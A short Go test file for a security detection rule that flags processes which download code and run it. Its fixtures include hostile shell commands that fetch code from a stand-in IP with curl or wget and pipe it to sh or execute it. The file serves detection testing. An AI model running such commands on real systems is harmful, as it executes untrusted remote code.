package builtin

import "testing"

func TestDownloadAndRun(t *testing.T) {
	run(t, downloadAndRun, tests{
		"pipe":       {exec("/bin/sh", "sh\x00-c\x00curl -s http://192.0.2.1/x | sh", 0), true},
		"executable": {exec("/bin/sh", "sh\x00-c\x00wget http://192.0.2.1/x && chmod +x x && ./x", 0), true},
		"download":   {exec("/bin/sh", "sh\x00-c\x00curl http://192.0.2.1/x", 0), false},
		"no code":    {exec("/usr/bin/echo", "echo\x00curl x | sh", 0), false},
	})
}
